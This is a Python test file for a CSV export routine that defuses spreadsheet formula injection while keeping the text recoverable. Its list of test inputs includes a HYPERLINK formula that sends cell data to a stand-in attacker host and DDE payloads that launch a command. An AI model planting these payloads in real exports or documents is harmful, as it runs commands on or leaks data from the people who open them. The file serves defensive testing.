"""Text that a spreadsheet would run as a formula (FAULTS.md C6, OWASP's list) is plain text in a CSV file."""

import csv
import io

import pyarrow as pa
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from archive.export.formulas import neutralised, restored
from archive.export.writing import Form
from tests.archive.export.arrow_values import ANY_TEXT
from tests.archive.export.reading import SIGNS, csv_cells, of_texts, written

AHEAD = '"' + "".join(map(chr, [*range(33), 127, 0xA0, 0xFEFF, 0x200B, 0x3000]))
ATTACKS = [
    '=HYPERLINK("https://evil.example/?"&A1,"click")',
    "=cmd|' /C calc'!A0",
    "+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1)",
    '"=1+1',
    "'=1+1",
    "''=1+1",
    " =1+1",
    "\ufeff=1+1",
    "\u200b=1+1",
    "\0=1+1",
    "text;=1+1",
    "text\n=1+1",
    "text\t'=1+1",
    'a,"\r\n=1+1',
]


def begins_a_formula(cell: str) -> bool:
    """Whether a spreadsheet might run it: it may look behind double quotes, white space and what does not show."""
    return cell.lstrip(AHEAD)[:1] in tuple(SIGNS)


@pytest.mark.parametrize("attack", ATTACKS)
def test_an_attack_is_plain_text_for_a_spreadsheet_and_still_readable(attack: str) -> None:
    (name, *_), (cell, *_) = csv_cells(written(of_texts(attack, name=attack), Form.CSV))
    for shown in (name, cell):
        assert not begins_a_formula(shown)
        assert shown != attack
        assert restored(shown) == attack
    assert csv_cells(written(of_texts(attack), Form.CSV, keep_formulas=True))[1] == [attack]


@pytest.mark.parametrize("attack", ATTACKS)
def test_a_spreadsheet_set_to_semicolons_or_tabs_sees_no_formula_either(attack: str) -> None:
    content = written(of_texts(attack, f"words {attack}; {attack}"), Form.CSV).decode()
    for delimiter in ";\t":
        # A spreadsheet forgives quotes in the midst of a cell.
        for row in csv.reader(io.StringIO(content, newline=""), delimiter=delimiter):
            assert not any(map(begins_a_formula, row)), row


@given(st.lists(ANY_TEXT, min_size=1, max_size=5))
@settings(max_examples=400, deadline=None)
def test_no_cell_and_no_name_begins_a_formula_whatever_the_text(texts: list[str]) -> None:
    table = pa.table([pa.array([text]) for text in texts], names=texts)
    content = written(table, Form.CSV)
    names, cells = csv_cells(content)
    assert not any(map(begins_a_formula, [*names, *cells]))
    assert not any(cell[:1] in tuple("\t\r\n") for cell in [*names, *cells])
    assert [restored(cell) for cell in cells] == texts


@given(ANY_TEXT)
@settings(max_examples=400, deadline=None)
def test_restored_takes_back_what_neutralised_put_in_and_nothing_else(text: str) -> None:
    (shown,) = neutralised(pa.array([text])).to_pylist()
    assert restored(shown) == text
    assert shown.replace("'", "") == text.replace("'", "")


def test_a_number_is_no_text_and_stays_a_number() -> None:
    table = pa.table({"views": [-5, 3], "share": [-0.5, 1e-9], "grown": pa.array(["-5", "3"])})
    assert written(table, Form.CSV) == b"views,share,grown\r\n-5,-0.5,'-5\r\n3,1e-9,3\r\n"


@pytest.mark.parametrize("text", ["", "a-b", "'quoted'", "1+1", "e@mail.example", "a; b", "para\n\npara", "don't"])
def test_other_text_is_left_as_it_is(text: str) -> None:
    assert neutralised(pa.array([text])).to_pylist() == [text]


def test_json_and_parquet_leave_every_text_as_it_is() -> None:
    assert written(of_texts("=1+1"), Form.JSON) == b'{"text":"=1+1"}\n'
